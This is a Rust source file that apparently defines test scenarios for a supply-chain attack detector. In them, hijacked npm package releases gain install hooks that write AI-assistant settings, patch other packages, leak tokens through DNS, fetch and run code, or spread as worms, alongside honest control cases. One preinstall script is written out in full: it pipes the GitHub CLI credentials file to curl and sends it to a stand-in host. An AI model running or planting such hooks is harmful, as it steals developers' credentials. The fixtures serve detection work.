//! R20 to R23, and incidents that act at install time: patches of packages of long standing that gain a
//! hook.

use jiff::Timestamp;

use super::Scenario;
use super::deviations::{elsewhere, expected, from_workflow, release};
use super::parts::{NEXT, Stage};
use crate::Release;
use crate::payloads::{
    AGENT_SETTINGS, DNS_LEAK, FETCH_AND_RUN, SIBLING_PATCH, TOKENS, VANISHING, WORM,
};
use crate::samples::{FORMATTER, PREBUILT_LOOKUP, aimed_at};

fn hooked(next: Release, text: &str) -> Release {
    next.file("scripts/setup.js", text)
        .script("postinstall", "node scripts/setup.js")
}

/// R20: a hook writes the settings of assistants and editors.
pub fn assistant_settings(now: Timestamp) -> Scenario {
    one(
        now,
        (
            "R20-assistant-settings",
            "A new hook writes settings of assistants and editors.",
        ),
        ("router-tools", &["I43", "I45"]),
        ("B14", "writes the settings of assistants and editors"),
        AGENT_SETTINGS,
    )
}

/// R21: a hook writes into another installed package.
pub fn sibling_patch(now: Timestamp) -> Scenario {
    one(
        now,
        (
            "R21-sibling-patch",
            "A new hook writes into another installed package.",
        ),
        ("chain-provider", &["I19"]),
        ("B19", "writes into another package"),
        SIBLING_PATCH,
    )
}

/// R22: a hook reads the npm token and sends it in name lookups alone.
pub fn by_name_lookup(now: Timestamp) -> Scenario {
    one(
        now,
        (
            "R22-by-name-lookup",
            "A new hook reads the npm token and sends it in name lookups.",
        ),
        ("host-probe", &["I33", "I44"]),
        ("B6", "a credential file leaves in name lookups"),
        DNS_LEAK,
    )
}

/// R23: a hook leaves a silent child, removes itself and swaps the manifest.
pub fn vanishing(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    stage.hijacked(
        "wire-setup",
        &["I38"],
        vec![
            expected("M7", "execution", "a hook in a package that had none"),
            expected("B16", "code", "removes itself and swaps the manifest"),
        ],
        15,
        |next| {
            hooked(next, VANISHING)
                .file("scripts/worker.js", FETCH_AND_RUN)
                .file("scripts/package.md", "{}\n")
        },
    );
    stage.side_of(&["I38"]);
    stage.end(
        "R23-vanishing",
        "A new hook leaves a silent child behind, removes itself and exchanges the manifest.",
    )
}

fn one(
    now: Timestamp,
    (name, description): (&'static str, &'static str),
    (package, incidents): (&'static str, &'static [&'static str]),
    (code, seen): (&'static str, &'static str),
    text: &str,
) -> Scenario {
    let mut stage = Stage::new(now);
    stage.hijacked(
        package,
        incidents,
        vec![
            expected("M7", "execution", "a hook in a package that had none"),
            expected(code, "code", seen),
        ],
        15,
        |next| hooked(next, text),
    );
    stage.side_of(incidents);
    stage.end(name, description)
}

/// Hooks of several incidents: miners, worms, stealers, whatever was put into a patch.
///
/// Twin: a hook that was always there changes its text.
pub fn hooked_patches(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let both = |code, seen| {
        vec![
            expected("M7", "execution", "a hook in a package that had none"),
            expected(code, "code", seen),
        ]
    };
    let tokens = aimed_at(TOKENS, &stage.sink.url());
    for (name, incidents, code, text) in [
        (
            "agent-parser",
            &["I08", "I18"][..],
            "B8",
            FETCH_AND_RUN.to_owned(),
        ),
        ("work-runner", &["I40"][..], "B2", tokens.clone()),
        ("cloud-forms", &["I37"][..], "B13", WORM.to_owned()),
        ("vault-cli", &["I41"][..], "B2", tokens.clone()),
    ] {
        stage.hijacked(
            name,
            incidents,
            both(code, "what the hook does"),
            26,
            |next| hooked(next, &text),
        );
    }
    let taken = stage.updated("task-graph", "kiln-bot", from_workflow, 23, |_| {
        elsewhere(hooked(release(NEXT), &tokens)).publisher("jonas")
    });
    stage.registry.add(taken.maintainer("jonas"));
    stage.bad_update(
        "task-graph",
        &["I26"],
        vec![
            expected("M5", "trust", "provenance and workflow gone"),
            expected("M7", "execution", "a hook in a package that had none"),
        ],
    );
    let shell =
        "cat ~/.config/gh/hosts.yml | curl -s --data-binary @- https://collect.example.invalid/c";
    stage.hijacked(
        "picasso-forms",
        &["I25"],
        vec![expected(
            "M7",
            "execution",
            "the hook's own text reads a token and sends it",
        )],
        26,
        |next| next.script("preinstall", shell),
    );
    let native = |version: &str| {
        Release::new(version)
            .file("index.js", FORMATTER)
            .file("install/find.js", PREBUILT_LOOKUP)
            .script("install", "node install/find.js")
    };
    stage.honest(
        "prebuilt-gauge",
        "a hook of long standing gets one more word",
        native,
        |next| next.script("install", "node install/find.js --quiet"),
    );
    let package = stage.updated("quiet-gauge", "ines", release, 21, elsewhere);
    stage.registry.add(package);
    stage.twin(
        "quiet-gauge",
        NEXT,
        "the owner publishes from another machine, nothing else changes",
    );
    stage.end(
        "hooked-patches",
        "Patches of packages without hooks gain one.",
    )
}
